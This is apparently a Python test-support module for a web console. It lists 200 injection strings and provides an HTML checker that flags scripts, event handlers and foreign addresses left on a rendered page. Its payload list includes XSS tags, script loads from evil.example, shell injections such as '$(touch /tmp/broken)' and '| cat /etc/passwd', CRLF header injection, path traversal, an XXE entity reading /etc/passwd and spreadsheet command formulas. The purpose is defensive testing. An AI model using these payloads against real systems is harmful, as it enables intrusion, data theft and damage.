"""Two hundred strings that have broken pages, and what a page must look like with any of them on it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import lru_cache
from html.parser import HTMLParser

# What runs if one of them gets through.
_RUN = "window.broken=1"

_WHOLE = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>click</a>",
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<style>@import '//evil.example';</style><p style=animation-name:x onanimationstart={_RUN}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<div hx-get='/console/queues' hx-trigger='load' hx-target='body'></div>",
    f"<div hx-on:click='{_RUN}' hx-trigger=load data-hx-get=/></div>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_RUN}</x:script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</option></select><script>{_RUN}</script>",
    f"</pre></code><img src=x onerror={_RUN}>",
    f"</table><img src=x onerror={_RUN}>",
    f"--><script>{_RUN}</script>",
    "</main></body></html>",
    "<plaintext>",
    "<xmp>",
    "<listing>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;&quot;&#x27;&nbsp;",
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ visit.console.sessions.csrf_token('') }}",
    "{{ ''.__class__.__mro__ }}",
    "{# hidden #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%7B%7B7*7%7D%7D",
    "%3Cscript%3E",
    "javascript:window.broken=1",
    "data:text/html,<script>window.broken=1</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/?a=b&c=d#e",
    "\\\\evil.example\\share",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/console/logout",
    "%00",
    "%0d%0aSet-Cookie: broken=1",
    "x\r\nSet-Cookie: broken=1",
    "x\nLocation: //evil.example",
    "\n\nevent: gone\ndata: {}\n\n",
    "data: x\n\n",
    ": comment\n\n",
    "'; DROP TABLE message; --",
    "' OR '1'='1",
    "1; SELECT 1",
    "$(touch /tmp/broken)",
    "`touch /tmp/broken`",
    "'; touch /tmp/broken; '",
    "| cat /etc/passwd",
    "a && b || c",
    "--endpoint-url http://evil.example",
    "-rf /",
    "\\",
    "\\\\",
    "\\n",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "' \" ` < > & ; :",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\ufeffbyte order mark",
    "\u202eright to left\u202c",
    "\u2066isolated\u2069",
    "zero\u200bwidth\u200djoiners",
    "\u2028line separator\u2029paragraph separator",
    "\u0085next line",
    "\ufffereversed mark",
    "＜script＞ｗｉｄｅ＜／script＞",
    "\u02bcmodifier\u02bc \u2018quotes\u2019 \u00abguillemets\u00bb",
    "ZALGỜ̸̢̫",
    "👩‍👩‍👧‍👦" * 8,
    "𝕊𝕔𝕣𝕚𝕡𝕥",
    "ﷺ" * 30,
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "__proto__",
    "constructor",
    "None",
    "-0",
    "1e309",
    "99999999999999999999999999",
    "-1",
    "0x10",
    "١٢٣",
    "½",
    "1,000",
    " ",
    "\t",
    "\n",
    "\r\n\r\n",
    ".",
    "..",
    "/",
    "?",
    "#",
    "%",
    "&",
    "+",
    "a" * 5_000,
    "<b>" * 1_000,
    '{"a": "</script><script>window.broken=1</script>"}',
    '{"__proto__": {"broken": 1}}',
    '[' * 2_000,
    '"' * 200,
    "'" * 200,
    "<" * 500,
    "]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
]  # fmt: skip

# What breaks out of an attribute, in each way of quoting, with each thing that could then run.
_CLOSINGS = ['"', "'", "`", '">', "'>", '"/>', " ", '"\t', '"\n', "&quot;>"]
_AFTER = [
    f"onmouseover={_RUN} x=",
    f"autofocus onfocus={_RUN} x=",
    f"<img src=x onerror={_RUN}>",
    f"style=animation:x onanimationend={_RUN} x=",
    f"<script>{_RUN}</script>",
    f"formaction=javascript:{_RUN} x=",
]


def _all() -> Iterator[str]:
    yield from _WHOLE
    for after in _AFTER:
        for closing in _CLOSINGS:
            yield closing + after


STRINGS = tuple(dict.fromkeys(_all()))[:200]
assert len(STRINGS) == 200

# Attributes whose value is an address.
_ADDRESSES = {"href", "src", "action", "formaction", "data-live", "hx-get", "hx-post", "poster", "data"}
_NAMES = (
    "html head meta title link script body a header img nav div form input button span small main p footer h1 h2 h3 section "
    "label select option noscript table caption thead tbody tr th td svg path rect line circle g text polyline polygon title "
    "desc pre code del ins strong em b time progress ul ol li dl dt dd fieldset legend textarea details summary figure "
    "figcaption article aside br hr tfoot meter abbr defs use clippath kbd var output colgroup col wbr i s u sub sup mark "
    "datalist dialog"
)
_ELEMENTS = frozenset(_NAMES.split())


class _Looked(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ELEMENTS:
            self.wrong.append(f"<{tag}>")
        named = dict(attrs)
        if tag == "script" and not (named.get("src") or "").startswith("/console/static/"):
            self.wrong.append(f"<script {named}>")
        if len(named) != len(attrs):
            self.wrong.append(f"<{tag}> has an attribute twice")
        for name, value in attrs:
            if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc", "ping"):
                self.wrong.append(f"<{tag} {name}={value!r}>")
            if name in _ADDRESSES and not _is_own(value or ""):
                self.wrong.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _is_own(address: str) -> bool:
    return address.startswith(("/console", "#")) or address == ""


# A comment, or a tag with all its quotes closed.
_TAG = re.compile("<!--.*?-->|<[a-zA-Z/!?](?:[^\"'>]|\"[^\"]*\"|'[^']*')*>", re.S)
_BEGUN = re.compile("<[a-zA-Z/!?]")


def wrong_with(html: str) -> list[str]:
    """Everything in the page that we did not put there. Most tags of a page are those of the last one: each is judged once, and
    a page in which one is not closed is read as a whole."""
    if _BEGUN.search(_TAG.sub("", html)):
        return _wrong_with(html)
    return [wrong for tag in _TAG.findall(html) for wrong in _wrong_with(tag)]


@lru_cache(100_000)
def _wrong_with(html: str) -> list[str]:
    looked = _Looked()
    looked.feed(html)
    looked.close()
    return looked.wrong


def text_of(html: str) -> str:
    """What a reader of the page would see, markup taken away."""
    looked = _Looked()
    looked.feed(html)
    looked.close()
    return "".join(looked.text)
